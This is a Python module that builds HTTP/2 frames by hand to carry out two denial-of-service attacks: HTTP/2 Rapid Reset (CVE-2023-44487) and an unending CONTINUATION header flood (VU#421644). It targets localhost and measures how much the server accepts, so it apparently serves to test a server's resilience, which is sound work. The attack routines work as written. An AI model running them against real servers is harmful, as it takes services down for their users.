"""As much of HTTP/2 (RFC 9113) as it takes to misuse it."""

import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RESET, SETTINGS, PING, GOAWAY, CONTINUATION = 1, 3, 4, 6, 7, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
MAX_CONCURRENT_STREAMS = 3
CANCEL = 8


def frame(kind, flags, stream, payload=b""):
    """One frame: length 3, type 1, flags 1, stream 4, payload."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A header field of HPACK (RFC 7541, section 6.2.2): not indexed, no Huffman code."""
    return b"\x00" + b"".join(
        bytes([len(text)]) + text for text in (name.encode(), value.encode()))


def get(host, path):
    """The header block of a GET."""
    return b"".join(literal(*field) for field in (
        (":method", "GET"), (":scheme", "https"), (":authority", host), (":path", path)))


class Connection:
    """A connection on which frames are sent as they are given."""

    def __init__(self, port, context, source):
        raw = socket.create_connection(("127.0.0.1", port), timeout=10, source_address=(source, 0))
        self.socket = context.wrap_socket(raw, server_hostname="localhost")
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.unread = b""
        self.settings = {}
        self.over = False

    def send(self, data):
        """Sends, unless the server is through with us; gives whether it was sent."""
        try:
            self.socket.sendall(data)
            return True
        except OSError:
            self.over = True
            return False

    def read(self, seconds):
        """Reads frames for so long, or until the server is through with us."""
        end = time.monotonic() + seconds
        while not self.over and (left := end - time.monotonic()) > 0:
            self.socket.settimeout(left)
            try:
                data = self.socket.recv(1 << 16)
            except TimeoutError:
                break
            except (OSError, ssl.SSLError):
                data = b""
            self.over = self.over or not data
            self.unread += data
            self._take()

    def _take(self):
        while len(self.unread) >= 9:
            length = int.from_bytes(self.unread[:3], "big")
            if len(self.unread) < 9 + length:
                return
            kind, flags = self.unread[3], self.unread[4]
            payload, self.unread = self.unread[9:9 + length], self.unread[9 + length:]
            if kind == SETTINGS and not flags & ACK:
                for at in range(0, length, 6):
                    name, value = struct.unpack(">HI", payload[at:at + 6])
                    self.settings[name] = value
                self.send(frame(SETTINGS, ACK, 0))
            elif kind == GOAWAY:
                self.over = True

    def close(self):
        """Closes it."""
        self.socket.close()


def context(certificate):
    """Trusts one certificate, speaks HTTP/2."""
    made = ssl.create_default_context(cafile=certificate)
    made.set_alpn_protocols(["h2"])
    return made


def rapid_reset(connection, host, limit):
    """Opens streams and resets them at once (CVE-2023-44487); gives how many the server took."""
    block = get(host, "/log/key")
    for number in range(limit):
        stream = 2 * number + 1
        sent = connection.send(
            frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
            + frame(RESET, 0, stream, struct.pack(">I", CANCEL)))
        if number % 50 == 0:
            connection.read(0.01)
        if not sent or connection.over:
            return number
    connection.read(2)
    return limit


def endless_head(connection, host, limit):
    """A head that never ends (VU#421644); gives how many bytes the server took."""
    connection.send(frame(HEADERS, END_STREAM, 1, get(host, "/")))
    block = literal("x-more", "a" * 100) * 100
    for number in range(limit // len(block)):
        sent = connection.send(frame(CONTINUATION, 0, 1, block))
        if number % 10 == 0:
            connection.read(0.01)
        if not sent or connection.over:
            return number * len(block)
    connection.read(2)
    return limit
